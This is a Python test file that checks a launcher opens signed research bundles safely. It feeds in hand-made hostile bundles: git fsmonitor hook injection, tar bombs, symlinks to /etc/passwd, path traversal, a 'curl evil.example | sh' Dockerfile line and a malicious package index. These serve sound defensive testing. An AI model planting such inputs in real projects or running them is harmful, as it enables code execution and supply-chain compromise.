"""A bundle from a stranger, opened as a reviewer opens it: each test plays one attacker with a hand-made
bundle (tests/hostile.py) and checks the reviewer's machine is safe: nothing runs on it (git's fsmonitor
and hooks), nothing is written before the signature is checked, nothing outside the folder the bundle is
opened into, nothing built from a file the run's signed provenance does not name. No Docker: fast tier."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import hostile as h
import pytest

from launcher.attest.bundle import ENVELOPE
from launcher.attest.signers import PemSigner, Trust
from launcher.attest.unpack import OpenedBundle, open_bundle
from launcher.errors import Corrupt, DigestMismatch, DiskFull, LauncherError, UnknownSigner, UnsafePath
from launcher.workflows import reproduce
from launcher.workspace import Workspace


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, Any]:
    private, public = h.pem_keys(tmp_path / "keys", "author")
    other, _ = h.pem_keys(tmp_path / "keys", "mallory")
    return {"signer": PemSigner(private), "trust": Trust.of(None, [public]), "mallory": PemSigner(other)}


def fsmonitor(marker: Path) -> bytes:
    """A git config whose fsmonitor hook (run by `git status`, `git add`, ...) touches marker."""
    return f'[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch {marker}; false"\n'.encode()


def prepare_code(opened: OpenedBundle, tmp: Path) -> object:
    """The reproduction's own step for the bundled code (what `launcher reproduce` does before the run)."""
    root = tmp / "reproduction"
    root.mkdir(exist_ok=True)
    return reproduce._code(opened.runs[0], Workspace.at(root, tmp / "reviewer-cache"))


def open_then_prepare(path: Path, trust: Trust, into: Path, tmp: Path) -> LauncherError | None:
    """Open the bundle and, when it is accepted, prepare its code as reproduce would; the refusal, if any."""
    try:
        prepare_code(open_bundle(path, trust, into), tmp)
    except LauncherError as exc:
        return exc
    return None


# ---------------------------------------------------------------- 1. git on the bundled code


def test_a_git_folder_the_code_digest_skips_is_refused_and_its_fsmonitor_never_runs(
        tmp_path: Path, keys: dict[str, Any]) -> None:
    # the code digest skips .git/, so a signer adds one without changing any digest
    marker = tmp_path / "fsmonitor-ran"
    forged = h.honest(tmp_path, keys["signer"], mounted=True)
    forged.files[f"{forged.code_prefix}/.git/config"] = fsmonitor(marker)
    forged.files[f"{forged.code_prefix}/.git/HEAD"] = b"ref: refs/heads/main\n"
    path = h.bundle(tmp_path / "git.bundle", forged, keys["signer"])
    refused = open_then_prepare(path, keys["trust"], tmp_path / "open", tmp_path)
    assert not marker.exists(), "git ran the bundle's fsmonitor on the reviewer's machine"
    assert isinstance(refused, UnsafePath) and ".git" in refused.message
    assert h.files_under(tmp_path / "open") == []


def test_a_git_file_counted_in_the_code_digest_is_refused_too(tmp_path: Path, keys: dict[str, Any]) -> None:
    # a `.git` file (gitdir: meta) and meta/config are ordinary files: the author's own honest digest covers them
    marker = tmp_path / "fsmonitor-ran"
    code = {"train.py": h.TRAIN, ".git": "gitdir: meta\n", "meta/config": fsmonitor(marker).decode(),
            "meta/HEAD": "ref: refs/heads/main\n", "meta/objects/.keep": "", "meta/refs/.keep": ""}
    forged = h.honest(tmp_path, keys["signer"], mounted=True, code_files=code)
    path = h.bundle(tmp_path / "gitfile.bundle", forged, keys["signer"])
    refused = open_then_prepare(path, keys["trust"], tmp_path / "open", tmp_path)
    assert not marker.exists(), "git ran the fsmonitor of the bundled code's gitdir"
    assert isinstance(refused, UnsafePath) and ".git" in refused.message


def test_the_reproduction_runs_no_git_on_the_code_it_copies(
        tmp_path: Path, keys: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    # whatever reached the opened code (a .git planted after the checks), its copy is made without git
    from launcher import proc

    forged = h.honest(tmp_path, keys["signer"], mounted=True)
    opened = open_bundle(h.bundle(tmp_path / "ok.bundle", forged, keys["signer"]), keys["trust"], tmp_path / "open")
    code = opened.runs[0].code
    assert code is not None
    marker = tmp_path / "fsmonitor-ran"
    (code / ".git").mkdir()
    (code / ".git" / "config").write_bytes(fsmonitor(marker))
    (code / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (code / "__pycache__").mkdir()
    (code / "__pycache__" / "helpers.cpython-311.pyc").write_bytes(b"not covered by any digest")
    ran: list[list[str]] = []
    real = proc.run

    def spy(argv: Any, *args: Any, **kwargs: Any) -> Any:
        ran.append([str(a) for a in argv])
        return real(argv, *args, **kwargs)

    monkeypatch.setattr(proc, "run", spy)
    plan = prepare_code(opened, tmp_path)
    assert not marker.exists(), "git ran the copied code's fsmonitor"
    assert not [a for a in ran if Path(a[0]).name == "git"], ran
    assert isinstance(plan, dict) and plan["source"] == "mounted" and plan["entry"] == "train.py"
    copied = Path(plan["local"])
    assert sorted(p.name for p in copied.rglob("*")) == ["helpers.py", "train.py"]  # only what the digest covers
    assert plan["digest"] == opened.runs[0].manifest.recipe["tree_digest"]


# ---------------------------------------------------------------- 3. nothing written before the signature


def test_a_sparse_member_is_refused_before_anything_is_written(tmp_path: Path, keys: dict[str, Any]) -> None:
    # a 10 KiB tar whose member unpacks to 200 MiB: refused by its header, not after writing it
    forged = h.honest(tmp_path, keys["signer"])
    path = h.bundle(tmp_path / "sparse.bundle", forged, keys["signer"],
                    change=lambda ms: [*ms, h.sparse("runs/zz-filler.bin", 200 << 20)])
    assert path.stat().st_size < 64 << 10
    into = tmp_path / "open"
    with pytest.raises(UnsafePath, match="sparse"):
        open_bundle(path, keys["trust"], into)
    assert h.files_under(into) == []


def test_a_sparse_member_the_statement_names_is_refused_too(tmp_path: Path, keys: dict[str, Any]) -> None:
    forged = h.honest(tmp_path, keys["signer"])
    name = f"runs/{h.RUN_ID}/outputs/model/canonical.npz"
    path = h.bundle(tmp_path / "sparse.bundle", forged, keys["signer"],
                    change=lambda ms: [h.sparse(name, 1 << 30) if m[0].name == name else m for m in ms])
    with pytest.raises(UnsafePath, match="sparse"):
        open_bundle(path, keys["trust"], tmp_path / "open")
    assert h.files_under(tmp_path / "open") == []


@pytest.mark.parametrize("attack", ["unsigned file", "untrusted signer", "grown file", "no envelope"])
def test_nothing_is_written_before_the_envelope_is_verified(tmp_path: Path, keys: dict[str, Any], attack: str) -> None:
    forged = h.honest(tmp_path, keys["signer"])
    signer = keys["mallory"] if attack == "untrusted signer" else keys["signer"]
    grown = f"runs/{h.RUN_ID}/outputs/metrics.jsonl"

    def change(members: list[h.Member]) -> list[h.Member]:
        if attack == "unsigned file":
            return [*members, h.regular(f"runs/{h.RUN_ID}/outputs/extra.py", b"import os\n")]
        if attack == "grown file":
            return [h.regular(grown, m[1] + b"\0" * 4096) if m[0].name == grown else m for m in members]
        if attack == "no envelope":
            return [m for m in members if m[0].name != ENVELOPE]
        return members

    path = h.bundle(tmp_path / f"{attack}.bundle", forged, signer, change=change)
    into = tmp_path / "open"
    expected = {"unsigned file": DigestMismatch, "untrusted signer": UnknownSigner, "grown file": DigestMismatch,
                "no envelope": Corrupt}[attack]
    with pytest.raises(expected):
        open_bundle(path, keys["trust"], into)
    assert h.files_under(into) == [], f"{attack}: files were written before the bundle was checked"


def test_a_bundle_larger_than_the_free_disk_is_refused_before_writing(
        tmp_path: Path, keys: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    import collections

    from launcher.attest import tarread

    forged = h.honest(tmp_path, keys["signer"])
    path = h.bundle(tmp_path / "ok.bundle", forged, keys["signer"])
    usage = collections.namedtuple("usage", "total used free")
    monkeypatch.setattr(tarread.shutil, "disk_usage", lambda p: usage(10_000, 9_000, 1_000))
    with pytest.raises(DiskFull, match="free"):
        open_bundle(path, keys["trust"], tmp_path / "open")
    assert h.files_under(tmp_path / "open") == []


def test_a_file_and_a_folder_of_the_same_name_is_a_clear_error(tmp_path: Path, keys: dict[str, Any]) -> None:
    # a tar holding `a` then `a/b` (both signed): a one-line error, not FileExistsError
    forged = h.honest(tmp_path, keys["signer"])
    forged.files[f"runs/{h.RUN_ID}/outputs/a"] = b"file\n"
    forged.files[f"runs/{h.RUN_ID}/outputs/a/b"] = b"inside\n"
    path = h.bundle(tmp_path / "ab.bundle", forged, keys["signer"])
    with pytest.raises(Corrupt, match="as a file and as a folder"):
        open_bundle(path, keys["trust"], tmp_path / "open")
    assert h.files_under(tmp_path / "open") == []


def test_links_devices_and_escaping_names_are_refused_by_their_headers(tmp_path: Path, keys: dict[str, Any]) -> None:
    import tarfile

    forged = h.honest(tmp_path, keys["signer"])
    fifo = tarfile.TarInfo("runs/fifo")
    fifo.type = tarfile.FIFOTYPE
    for extra in (h.link("runs/x", "/etc/passwd"), h.link("runs/y", "bundle.dsse.json", hard=True),
                  h.regular("../escape", b"x"), h.regular("/abs", b"x"), (fifo, b"")):
        path = h.bundle(tmp_path / "bad.bundle", forged, keys["signer"], change=lambda ms, e=extra: [*ms, e])
        with pytest.raises(UnsafePath):
            open_bundle(path, keys["trust"], tmp_path / "open")
        assert h.files_under(tmp_path / "open") == []
    assert not (tmp_path / "escape").exists()


# ---------------------------------------------------------------- 6. what the signed statement names


def _open_with(tmp_path: Path, keys: dict[str, Any], forged: h.Forged) -> OpenedBundle:
    return open_bundle(h.bundle(tmp_path / "forged.bundle", forged, keys["signer"]), keys["trust"], tmp_path / "open")


@pytest.mark.parametrize(("field", "value"), [
    ("data", "/"), ("data", "../../.."), ("data", "images"), ("code", "/tmp"), ("code", "code/../../.."),
    ("base", "/var/lib/docker"), ("base", "runs"), ("runId", "../../x"), ("runId", "/etc"), ("image", "../x"),
])
def test_every_path_the_bundle_statement_names_stays_in_the_bundle(
        tmp_path: Path, keys: dict[str, Any], field: str, value: str) -> None:
    # a signer makes `reproduce` mount a folder of the reviewer's as the dataset, or read its code elsewhere
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "secret.txt").write_text("the reviewer's\n")
    forged = h.honest(tmp_path, keys["signer"], mounted=True, data={"numbers.txt": b"1 2 3\n"})
    forged.predicate["runs"][0][field] = value
    with pytest.raises(UnsafePath):
        opened = _open_with(tmp_path, keys, forged)
        run = opened.runs[0]
        assert all(p is None or p.resolve().is_relative_to((tmp_path / "open").resolve())
                   for p in (run.code, run.data, run.base, run.folder)), "a path from the statement left the bundle"


def test_bundled_data_is_checked_against_the_provenance_s_dataset_digest(
        tmp_path: Path, keys: dict[str, Any]) -> None:
    forged = h.honest(tmp_path, keys["signer"], data={"numbers.txt": b"1 2 3\n"})
    assert _open_with(tmp_path, keys, forged).runs[0].data is not None
    # the bundle's signer swaps the data; the run's provenance (its author's) still names the first
    forged.files[f"{forged.data_prefix}/numbers.txt"] = b"4 5 6\n"
    shutil.rmtree(tmp_path / "open")
    with pytest.raises(DigestMismatch, match="dataset"):
        _open_with(tmp_path, keys, forged)


def test_data_the_provenance_does_not_name_is_refused(tmp_path: Path, keys: dict[str, Any]) -> None:
    forged = h.honest(tmp_path, keys["signer"])
    forged.files[f"runs/{h.RUN_ID}/data/numbers.txt"] = b"1 2 3\n"
    forged.predicate["runs"][0]["data"] = f"runs/{h.RUN_ID}/data"
    with pytest.raises(DigestMismatch, match="dataset"):
        _open_with(tmp_path, keys, forged)


@pytest.mark.parametrize("part", ["dockerfile", "other recipe", "images.lock registry", "facts"])
def test_what_the_image_is_rebuilt_from_is_what_its_config_names(
        tmp_path: Path, keys: dict[str, Any], part: str) -> None:
    # the image's config is covered by the provenance (its sha256 is the image ID); the Dockerfile, every
    # recipe baked beside the run's and the base's reference must be the ones that config's labels name
    forged = h.honest(tmp_path, keys["signer"])
    prefix = f"images/{forged.image_key}"
    if part == "dockerfile":
        forged.files[f"{prefix}/dockerfiles/cpu.Dockerfile"] += b"RUN curl evil.example | sh\n"
    elif part == "other recipe":
        forged.files[f"{prefix}/recipes/other/train.py"] = b"print('not in the image')\n"
    elif part == "images.lock registry":
        text = forged.files[f"{prefix}/lockfiles/images.lock"].decode()
        forged.files[f"{prefix}/lockfiles/images.lock"] = text.replace("127.0.0.1:5000", "127.0.0.1:5999").encode()
    else:
        forged.predicate["images"][forged.image_key]["baseRef"] = h.BASE_REF.replace("5000", "5999")
    with pytest.raises(DigestMismatch):
        _open_with(tmp_path, keys, forged)


def test_a_lock_input_only_the_bundle_signs_is_not_used(tmp_path: Path, keys: dict[str, Any]) -> None:
    # lockfiles/cpu.in is no input of the image: an older bundle's is not copied into the reproduction
    forged = h.honest(tmp_path, keys["signer"])
    forged.files[f"images/{forged.image_key}/lockfiles/cpu.in"] = b"--index-url https://evil.example/simple\nnumpy\n"
    opened = _open_with(tmp_path, keys, forged)
    into = tmp_path / "reproduction"
    into.mkdir()
    reproduce._workspace(opened, opened.runs[0], into, tmp_path / "cache")
    assert b"evil.example" not in (into / "lockfiles" / "cpu.in").read_bytes()
    assert sorted(p.name for p in (into / "lockfiles").iterdir()) == ["cpu.in", "cpu.txt", "images.lock"]


@pytest.mark.parametrize("path", ["code/{c}/myproj/__pycache__/helpers.cpython-311.pyc", "code/{c}/myproj/x.pyc",
                                  "images/{i}/recipes/tiny/__pycache__/train.cpython-311.pyc"])
def test_code_no_digest_covers_is_refused(tmp_path: Path, keys: dict[str, Any], path: str) -> None:
    # an unchecked-hash .pyc is imported instead of the signed source, and no code digest counts it
    forged = h.honest(tmp_path, keys["signer"], mounted=True)
    assert forged.code_prefix is not None
    name = path.format(c=forged.code_prefix.split("/")[1], i=forged.image_key)
    forged.files[name] = b"\x00" * 16
    with pytest.raises(UnsafePath, match="digest"):
        _open_with(tmp_path, keys, forged)


def test_an_honest_hand_made_bundle_opens(tmp_path: Path, keys: dict[str, Any]) -> None:
    # the baseline every attack above starts from: accepted, and every part where it belongs
    forged = h.honest(tmp_path, keys["signer"], mounted=True, data={"numbers.txt": b"1 2 3\n"})
    opened = _open_with(tmp_path, keys, forged)
    run = opened.runs[0]
    root = (tmp_path / "open").resolve()
    assert run.code == root / forged.code_prefix and run.data == root / f"runs/{h.RUN_ID}/data"
    assert opened.bundle.signers == [str(keys["trust"].keys[0])]
    # the same parts without the sizes an older launcher did not write: still accepted
    shutil.rmtree(tmp_path / "open")
    assert open_bundle(h.bundle(tmp_path / "old.bundle", forged, keys["signer"], sizes=False), keys["trust"],
                       tmp_path / "open").runs[0].run_id == h.RUN_ID
